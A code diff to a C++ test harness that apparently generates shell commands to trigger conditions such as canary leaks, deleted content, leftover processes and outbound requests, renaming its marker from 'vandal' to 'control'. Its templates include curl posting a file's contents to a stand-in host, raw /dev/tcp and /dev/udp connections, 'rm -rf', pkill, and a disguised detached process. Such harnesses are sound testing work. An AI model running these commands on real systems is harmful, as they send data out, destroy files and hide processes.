@@ -14,20 +14,20 @@ using Command = std::vector<std::string>;
 
 // A script whose arguments are $1, $2, ...
 Command script(const char* text, std::vector<std::string> arguments) {
-  Command command = {"bash", "-c", text, "vandal"};
+  Command command = {"bash", "-c", text, "control"};
   std::ranges::move(arguments, std::back_inserter(command));
   return command;
 }
 
-constexpr const char* create = R"sh(mkdir -p "${1%/*}"; echo vandal > "$1")sh";
+constexpr const char* create = R"sh(mkdir -p "${1%/*}"; echo control > "$1")sh";
 constexpr const char* change =
-    R"sh(if [ -d "$1" ]; then rm -r "$1"; else chmod u+w "$1"; fi; echo vandal >> "$1")sh";
+    R"sh(if [ -d "$1" ]; then rm -r "$1"; else chmod u+w "$1"; fi; echo control >> "$1")sh";
 constexpr const char* end_process = R"sh(pkill -f "^$1")sh";
 constexpr const char* leave_process =
     R"sh(mkdir -p "${1%/*}"; cp /usr/bin/sleep "$1"
 setsid "$1" 600 >/dev/null 2>&1 </dev/null & sleep 0.2)sh";
 constexpr const char* talk = R"sh(exec 3<>"/dev/tcp/$1/$2")sh";
-constexpr const char* send_packet = R"sh(echo vandal > "/dev/udp/$1/$2")sh";
+constexpr const char* send_packet = R"sh(echo control > "/dev/udp/$1/$2")sh";
 constexpr const char* copy = R"sh(mkdir -p "${2%/*}"; cat "$1" >> "$2")sh";
 constexpr const char* send_file =
     R"sh(curl -s -m 5 -o /dev/null --data-binary @"$1" "http://$2/")sh";
@@ -40,8 +40,8 @@ constexpr const char* ask_often =
 constexpr const char* send_text = R"sh(curl -s -m 5 -o /dev/null --data-raw "$1" "http://$2/")sh";
 
 // Where nothing else is said.
-constexpr const char* some_file = "/home/dev/vandal.txt";
-constexpr const char* some_host = "vandal.example";
+constexpr const char* some_file = "/home/dev/control.txt";
+constexpr const char* some_host = "control.example";
 
 std::string or_else(const std::string& value, const char* otherwise) {
   return value.empty() ? otherwise : value;
@@ -67,7 +67,7 @@ Command about_canary(const Condition& condition, const record::World& world) {
   }
   if (condition.word == Word::content_lost) return {"rm", "-rf", holder};
   if (condition.word == Word::served) {
-    return script(copy, {holder, condition.root + "/vandal.txt"});
+    return script(copy, {holder, condition.root + "/control.txt"});
   }
   if (condition.word == Word::canary_in_file) {
     return script(copy, {holder, or_else(condition.path, some_file)});
@@ -126,7 +126,7 @@ Command act(const Condition& condition, const record::World& world) {
     case Word::process_gone:
       return script(end_process, {condition.program});
     case Word::left_running:
-      return script(leave_process, {condition.path + "/vandal"});
+      return script(leave_process, {condition.path + "/control"});
     case Word::requests:
       return script(ask_often, {condition.host,
                                 std::to_string(static_cast<int>(condition.at_least.value_or(2)))});
